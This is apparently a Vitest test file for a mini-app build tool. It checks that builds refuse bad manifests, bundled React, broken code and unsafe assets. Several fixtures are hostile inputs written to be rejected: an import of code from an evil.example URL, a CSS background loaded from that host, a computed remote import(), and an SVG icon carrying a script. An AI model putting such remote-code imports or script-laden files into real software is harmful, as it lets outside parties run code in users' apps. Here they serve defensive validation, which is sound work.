import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Problem } from "@plaza/manifest";
import { afterEach, beforeEach, expect, it, vi } from "vitest";
import { buildRelease } from "../index.ts";
import { copyFixture, failure } from "../testing/folders.ts";

// A build starts a process; on two busy cores that takes its time.
vi.setConfig({ testTimeout: 120_000 });

let folder = "";
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "plaza-build-"));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const copyOf = (name: string) => copyFixture(name, folder);

it("refuses a bad manifest with the full list, before anything is built [A1]", async () => {
  const root = copyOf("react-frame");
  const manifest = JSON.parse(readFileSync(join(root, "manifest.json"), "utf8"));
  writeFileSync(
    join(root, "manifest.json"),
    JSON.stringify({
      ...manifest,
      app_id: "X",
      icons: [{ src: "missing.svg" }],
      plaza: { ...manifest.plaza, sandbox: "tab", network: { connect: ["*"] } },
    }),
  );
  writeFileSync(
    join(root, "catalogue.json"),
    '{ "currency": "VND", "items": [{ "sku": "a", "name": "A", "price": 1.5, "image": "none.png" }] }',
  );
  const error = await failure(buildRelease({ root }));
  expect(error.code).toBe("MANIFEST_INVALID");
  expect((error.data as { problems: Problem[] }).problems.map((problem) => problem.rule)).toEqual([
    "M001-app-id",
    "M003-icons",
    "M011-sandbox",
    "M015-network-origins",
    "C003-price",
    "C004-image",
  ]);
  expect(existsSync(join(root, "dist"))).toBe(false);
});

it.each([
  [
    "the folder's own file",
    "src/app.ts",
    "import { createElement } from 'react'; export const mount = () => createElement;",
    /src\/app\.ts imports "react"/,
  ],
  ["a dynamic import", "src/app.ts", "export const mount = () => import('react-dom/client');", /src\/app\.ts imports "react-dom\/client"/],
  ["JSX, which no file imports by name", "src/app.tsx", "export default () => <p />;", /src\/app\.tsx imports "react\/jsx-runtime"/],
  ["a library", "src/app.ts", "export { hook as mount } from 'hooks';", /node_modules\/hooks\/index\.js imports "react"/],
])("refuses a React of its own, which would crash in the sandbox, through %s", async (_, path, source, message) => {
  const root = copyOf("plain-worker");
  rmSync(join(root, "src/app.ts"));
  writeFileSync(join(root, path), source);
  mkdirSync(join(root, "node_modules/hooks"));
  writeFileSync(join(root, "node_modules/hooks/package.json"), '{ "name": "hooks", "type": "module", "main": "index.js" }');
  writeFileSync(join(root, "node_modules/hooks/index.js"), 'import { useState } from "react"; export const hook = () => useState;');
  const error = await failure(buildRelease({ root }));
  expect(error.code).toBe("INVALID_PARAMS");
  expect(error.message).toMatch(message);
  expect(error.message).toContain('Name "react" and "react-dom" under "dependencies" of package.json');
  expect(existsSync(join(root, "dist/release.json"))).toBe(false);
});

it.each<[string, string, Record<string, string | Buffer>, RegExp]>([
  [
    "a renderer that the realm does not share",
    "react-frame",
    { "src/price.ts": 'export { renderToString as price } from "react-dom/server";' },
    /src\/price\.ts imports "react-dom\/server", which a realm does not share.*react, react-dom, react-dom\/client/,
  ],
  [
    "a computed import()",
    "plain-worker",
    { "src/app.ts": "export const mount = (name: string) => import(/* @vite-ignore */ `https://x.example/${name}.js`);" },
    /computed path/,
  ],
  [
    "an import of code from elsewhere [S-12]",
    "plain-worker",
    { "src/app.ts": 'export { mount } from "https://evil.example/app.js";' },
    /evil\.example/,
  ],
  [
    "a package that is not installed",
    "plain-worker",
    { "src/app.ts": 'import x from "not-a-package"; export const mount = () => x;' },
    /^src\/app\.ts: imports "not-a-package"/,
  ],
  [
    "code that does not parse",
    "plain-worker",
    { "src/app.ts": "export const mount = (;" },
    /^The code does not build: Unexpected token\n.*src\/app\.ts:1:23/,
  ],
  [
    "a file that is not there",
    "plain-worker",
    { "src/app.ts": "export { mount } from './none';" },
    /build: Could not resolve '\.\/none' in src\/app\.ts/,
  ],
  ["a vite.config that fails", "plain-worker", { "vite.config.js": 'import "not-a-package";' }, /not-a-package/],
  [
    "a module that exposes nothing to start",
    "plain-worker",
    { "src/app.ts": "export const start = () => 1;" },
    /^src\/app\.ts exports start\. Export a React component as default, or a function mount/,
  ],
  [
    "styles in a worker",
    "plain-worker",
    { "src/app.ts": 'import "./a.css"; export const mount = () => 1;', "src/a.css": "p { color: red; }" },
    /worker mini-app has no page to style/,
  ],
  [
    "a style that loads from elsewhere [S-06]",
    "react-frame",
    { "src/app.css": "p { background: url(https://evil.example/x.png); }" },
    /evil\.example/,
  ],
  [
    "an image that is too large to inline",
    "react-frame",
    {
      "src/cup.svg": Buffer.concat([
        Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'>"),
        Buffer.alloc(300_000, 32),
        Buffer.from("</svg>"),
      ]),
    },
    /cup\.svg has 300\d+ bytes/,
  ],
  [
    "a worker of its own",
    "plain-worker",
    {
      "src/app.ts": 'export const mount = () => new Worker(new URL("./w.ts", import.meta.url), { type: "module" });',
      "src/w.ts": "export {};",
    },
    /loads no files/,
  ],
  ["an icon with script in it [R-12]", "plain-worker", { "icon.svg": "<svg><script>alert(1)</script></svg>" }, /icon\.svg contains script/],
])("refuses %s and says what to do", async (_, name, files, message) => {
  const root = copyOf(name);
  for (const [path, content] of Object.entries(files)) writeFileSync(join(root, path), content);
  const error = await failure(buildRelease({ root }));
  expect(error.message).toMatch(message);
  expect(error.message, "no stack").not.toMatch(/\n\s+at |stack:|backtrace/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: no colours either
  expect(error.message).not.toMatch(/\u001b/);
  expect(existsSync(join(root, "dist/release.json"))).toBe(false);
});
